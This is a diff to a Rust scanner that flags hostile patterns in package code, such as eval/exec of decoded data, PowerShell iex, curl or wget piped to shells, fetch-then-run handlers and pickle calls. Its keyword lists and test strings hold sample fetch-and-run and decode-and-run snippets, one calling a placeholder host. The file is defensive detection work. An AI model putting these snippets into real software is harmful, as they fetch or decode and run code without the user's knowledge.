@@ -10,6 +10,8 @@ use std::sync::LazyLock;
 use aho_corasick::{AhoCorasick, MatchKind};
 use memchr::memmem;
 
+use super::pieces;
+
 /// An expression is looked at so far.
 const EXPRESSION_MAX: usize = 240;
 /// So many names of an obfuscator (`_0x` and four hexadecimal digits) are no chance.
@@ -20,10 +22,8 @@ const RUNS: &[&[u8]] = &[
     b"eval(",
     b"exec(",
     b"new Function(",
-    b"iex (",
-    b"IEX (",
-    b"iex(",
-    b"IEX(",
+    b"iex",
+    b"IEX",
     b"Invoke-Expression",
     b"instance_eval(",
     b"marshal.loads(",
@@ -53,6 +53,14 @@ const DECODES: &[&[u8]] = &[
     b"Base64.decode64(",
     b"String.fromCharCode(",
     b"unhexlify(",
+    b"bytes([",
+    b"bytearray([",
+    b"join(chr(",
+    b"join(map(chr",
+];
+/// Endings of files that are code by their name: one part of a package runs another.
+const CODE: &[&[u8]] = &[
+    b"py", b"pyi", b"pyw", b"js", b"mjs", b"cjs", b"ts", b"rb", b"json", b"sh", b"ps1", b"pyx", b"in", b"cfg",
 ];
 /// What gets text from somebody else.
 const FETCHES: &[&[u8]] = &[
@@ -71,8 +79,7 @@ const FETCHES: &[&[u8]] = &[
 const SOURCES: &[(&[u8], &str)] = &[
     (b"curl ", "fetch-and-run/pipe"),
     (b"wget ", "fetch-and-run/pipe"),
-    (b"base64 -d", "decode-and-run/pipe"),
-    (b"base64 --decode", "decode-and-run/pipe"),
+    (b"base64 -", "decode-and-run/pipe"),
 ];
 const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"node", b"python", b"python3", b"perl"];
 
@@ -95,9 +102,18 @@ const PICKLES: &[&[u8]] = &[
     b"\x8c\x08builtins\x94\x8c\x04eval\x94",
 ];
 
+/// At most 32 words: vector instructions look for more at half the speed.
+const _: () = assert!(RUNS.len() + SOURCES.len() + 5 + pieces::MARKS.len() <= 32);
+
 /// Everything that is looked for in texts, found in one go: what runs, what goes into a shell, and two words more.
 static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
-    table(RUNS.iter().copied().chain(SOURCES.iter().map(|(word, _)| *word)).chain([MODULE, NAME, SEND]))
+    table(
+        RUNS.iter()
+            .copied()
+            .chain(SOURCES.iter().map(|(word, _)| *word))
+            .chain([MODULE, NAME, SEND, UNPACK, DATA])
+            .chain(pieces::MARKS.iter().copied()),
+    )
 });
 static CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| table(PICKLES.iter().copied()));
 
@@ -109,6 +125,11 @@ fn table(words: impl Iterator<Item = &'static [u8]>) -> AhoCorasick {
 const MODULE: &[u8] = b"new module.constructor";
 const NAME: &[u8] = b"_0x";
 const SEND: &[u8] = b"fetch(";
+/// One expression that imports what it decodes with, as nobody writes who has an `import`.
+const UNPACK: &[u8] = b".decompress(__import__(";
+
+/// A module that is an address with the code in it: `import('data:text/javascript,…')`.
+const DATA: &[u8] = b":text/javascript";
 
 /// Tells whether bytes begin as a pickle does: with its protocol, or as protocol 0 writes calls and collections.
 pub(super) fn may_be_pickle(start: &[u8]) -> bool {
@@ -125,6 +146,7 @@ pub(super) fn pickle(bytes: &[u8], found: &mut BTreeSet<String>) {
 /// Looks for tricks in a window of a text.
 pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
     let (mut names, mut modules) = (0, false);
+    let mut hidden = pieces::Read::default();
     let mut add = |name: &str| _ = found.insert(name.to_owned());
     for hit in WORDS.find_iter(bytes) {
         let (at, number) = (hit.start(), hit.pattern().as_usize());
@@ -133,18 +155,28 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
                 continue;
             }
             // PowerShell runs what the rest of the line makes.
-            let is_command = run.eq_ignore_ascii_case(b"iex (")
-                || run.eq_ignore_ascii_case(b"iex(")
-                || *run == b"Invoke-Expression";
+            let short = run.eq_ignore_ascii_case(b"iex");
+            let opens = |rest: &[u8]| rest.starts_with(b"(") || rest.starts_with(b" (");
+            if short && !opens(bytes.get(hit.end()..).unwrap_or_default()) {
+                continue;
+            }
+            let is_command = short || *run == b"Invoke-Expression";
             let inside = if is_command { line(bytes, hit.end()) } else { argument(bytes, hit.end()) };
+            // A function is made of code that was data (Python's `types`).
+            if *run == b"marshal.loads(" && bytes[..at].ends_with(b"FunctionType(") {
+                add("decode-and-run/nested");
+            }
             if holds(inside, DECODES) {
                 add("decode-and-run/nested");
+            }
+            if matches!(run, &b"eval(" | &b"exec(") && runs_data(inside) {
+                add("decode-and-run/file");
             }
             if holds(inside, FETCHES) {
                 add("fetch-and-run/nested");
             }
             // What is got over the net arrives in pieces: the handler of one runs it.
-            if *run == b"eval(" && is_handler(bytes, at) {
+            if matches!(run, &b"eval(" | &b"new Function(") && is_handler(bytes, at) {
                 add("fetch-and-run/handler");
             }
         } else if let Some((_, name)) = SOURCES.get(number - RUNS.len()) {
@@ -157,12 +189,28 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
             if holds(argument(bytes, hit.end()), &[b"POST", b"post"]) {
                 add("sends/script");
             }
+        } else if number == RUNS.len() + SOURCES.len() + 3 {
+            add("decode-and-run/nested");
+        } else if number == RUNS.len() + SOURCES.len() + 4 {
+            if [&b"import('data"[..], b"import(\"data", b"import(`data"]
+                .iter()
+                .any(|call| bytes[..at].ends_with(call))
+            {
+                add("decode-and-run/nested");
+            }
+        } else if let Some(mark) = number.checked_sub(RUNS.len() + SOURCES.len() + 5) {
+            if let Some(name) = hidden.mark(mark, bytes, at) {
+                add(name);
+            }
         } else if bytes.get(at + 3..at + 7).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit)) {
             names += 1;
             if names == NAMES_MIN {
                 add("obfuscation/names");
             }
         }
+    }
+    if pieces::symbols(bytes) {
+        add("obfuscation/symbols");
     }
     // Once a window: an enemy writes the word as often as there is room.
     if modules && holds(bytes, DECODES) {
@@ -218,6 +266,26 @@ fn is_handler(bytes: &[u8], at: usize) -> bool {
     let before = &bytes[at.saturating_sub(BEFORE)..at];
     let before = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
     holds(before, &[b"on('data'", b"on(\"data\"", b"on('end'", b"on(\"end\"", b".text().then("])
+        || (holds(before, &[b"fetch("]) && holds(before, &[b".text()"]))
+}
+
+/// `open(join(folder, 'notes.dat')).read()`: a file is read to be run whose name is that of no code.
+fn runs_data(inside: &[u8]) -> bool {
+    if !holds(inside, &[b"open(", b"readFileSync("]) {
+        return false;
+    }
+    let mut parts = inside.split(|byte| matches!(byte, b'\'' | b'"' | b'`')).skip(1).step_by(2);
+    parts.any(|literal| {
+        let dot = literal.iter().rposition(|byte| *byte == b'.');
+        dot.is_some_and(|dot| {
+            let ending = &literal[dot + 1..];
+            dot > 0
+                && (1..=5).contains(&ending.len())
+                && ending.iter().all(u8::is_ascii_alphanumeric)
+                && !ending[0].is_ascii_digit()
+                && !CODE.contains(&ending)
+        })
+    })
 }
 
 #[cfg(test)]
@@ -249,6 +317,20 @@ mod tests {
         check(b"subprocess.Popen(['sh', '-c', urlopen('http://x.invalid/').read()])", fetched);
         check(b"subprocess.run(['git', 'status'])\nurlopen(x)\n", &[]);
         check(b"exec(code)\nrequests.get(x)\n", &[]);
+        check(b"exec(bytes([112,114]).decode())", nested);
+        check(b"types.FunctionType(marshal.loads(x), globals())()", nested);
+        check(b"import('data:text/javascript;base64,eA==')", nested);
+        check(b"_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x))", nested);
+        check(b"zlib.decompress(base64.b64decode(x))", &[]);
+        check(b"import('./data:x'); import(data)", &[]);
+        let file: &[&str] = &["decode-and-run/file"];
+        check(b"exec(open(os.path.join(here,'LICENSE.dat')).read())", file);
+        check(b"eval(fs.readFileSync('logo.png', 'utf8'))", file);
+        check(b"exec(open('version.py').read()); exec(open(name, 'rb').read())", &[]);
+        check(b"eval(fs.readFileSync('a.js', 'utf8'))", &[]);
+        let handler: &[&str] = &["fetch-and-run/handler"];
+        check(b"fetch(u).then(r=>r.text()).then(t=>new Function(t)())", handler);
+        check(b"fetch(u).then(r=>r.json())\nnew Function(t)()", &[]);
         check(b"r.on('data',(c)=>{eval(c)})", &["fetch-and-run/handler"]);
         check(b"r.on('data',(c)=>{\n  all += c });\n eval(c)", &[]);
     }
